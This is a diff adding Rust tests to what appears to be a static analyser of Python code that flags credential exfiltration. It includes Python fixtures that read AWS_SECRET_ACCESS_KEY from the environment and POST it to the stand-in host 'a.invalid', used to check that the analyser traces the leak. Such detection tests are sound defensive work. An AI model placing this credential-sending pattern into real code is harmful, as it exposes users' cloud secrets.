@@ -135,3 +135,96 @@ fn pth_lines_are_told_with_their_idiom() {
     assert!(lines[0].facts.facts.iter().any(|fact| fact.detail == "id"));
     assert!(super::read_pth(b"folder\nimportant\n# import os\n").is_empty());
 }
+
+/// A parser by recursive descent: methods that call each other and put what they get into the same fields, beside each other
+/// and into each other. `ends` is the last statement of every method.
+fn descent(methods: usize, ends: &str) -> String {
+    let mut source = "import os\nclass Reader:\n    def __init__(self, text):\n        self.text, self.at = text, 0\n        self.all, self.note = [], ''\n".to_owned();
+    for method in 0..methods {
+        let [a, b, c, d] = [7, 5, 3, 11].map(|step| (method * step + step) % methods);
+        source.push_str(&format!(
+            "    def read{method}(self):
+        parts = ['']
+        while self.at < len(self.text):
+            if self.text[self.at] == '(':
+                parts.append(self.read{a}())
+                parts.append(self.read{b}())
+                self.all.append(self.read{c}())
+            else:
+                parts.append('<%s>' % self.read{d}())
+                self.note += '[' + self.note + ''.join(parts) + ']'
+                self.at += 1
+        self.all = self.all + self.all + parts
+        {ends}
+"
+        ));
+    }
+    source
+}
+
+/// Bytes of texts and elements of lists that are held when a source has been followed, and calls whose names are.
+fn held(source: &str) -> (usize, usize, usize) {
+    use super::value::{Kind, Value};
+    fn weigh(
+        value: &Value<'_>,
+        seen: &mut std::collections::HashSet<usize>,
+        sum: &mut (usize, usize, usize),
+    ) {
+        match &value.kind {
+            Kind::Text { text, .. } if seen.insert(text.as_ptr().addr()) => sum.0 += text.len(),
+            Kind::List(items) if seen.insert(items.as_ptr().addr()) => {
+                sum.1 += items.len();
+                items.iter().for_each(|item| weigh(item, seen, sum));
+            }
+            _ => {}
+        }
+    }
+    let (suite, whole) = super::parse(source);
+    assert!(whole);
+    let layers = super::interp::Layers::default();
+    let mut interp = super::interp::Interp::new(&layers, false);
+    interp.module(&suite);
+    let (mut seen, mut sum) = (std::collections::HashSet::new(), (0, 0, 0));
+    sum.2 = interp.frames.iter().filter(|frame| !frame.vars.is_empty()).count();
+    let names = interp.frames.iter().flat_map(|frame| frame.vars.values());
+    let members = interp.classes.iter().flat_map(|class| class.members.values());
+    for value in names.chain(members).chain(interp.results.values()) {
+        weigh(value, &mut seen, &mut sum);
+    }
+    sum
+}
+
+#[test]
+fn a_parser_by_recursive_descent_grows_no_more_than_its_bounds() {
+    let source = descent(24, "return '<%s>' % ','.join(parts) + self.note");
+    let (texts, elements, calls) = held(&source);
+    let methods = 24;
+    // What every method gave, the fields, and the names of the module and of the class.
+    assert!(texts <= (methods + 8) * 2 * super::value::VAGUE_BYTES, "{texts} bytes of texts");
+    assert!(elements <= super::value::GATHERED / 2, "{elements} elements");
+    assert_eq!(calls, 2, "ended calls hold their names");
+}
+
+#[test]
+fn what_grows_beyond_its_bounds_keeps_where_it_comes_from() {
+    let begin =
+        "import os, requests\n".to_owned() + &descent(24, "return '<%s>' % ','.join(parts) + self.note");
+    let told = rendered(&super::read(
+        format!(
+            "{begin}reader = Reader('x')\nreader.note = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://a.invalid', data=reader.read0())\n"
+        )
+        .as_bytes(),
+        "a.py",
+    ));
+    assert!(told.contains("env_read AWS_SECRET_ACCESS_KEY -> "), "{told}");
+}
+
+#[test]
+fn lists_that_double_end_as_unknown_with_their_sources() {
+    let doubled = "    all = all + all\n".repeat(40);
+    let source = format!(
+        "import os, requests\ndef grow(all):\n{doubled}    return all\nx = grow([os.environ['AWS_SECRET_ACCESS_KEY'], 1, 2])\nrequests.post('https://a.invalid', data=x)\n"
+    );
+    let told = rendered(&super::read(source.as_bytes(), "a.py"));
+    assert!(told.contains("env_read AWS_SECRET_ACCESS_KEY -> "), "{told}");
+}
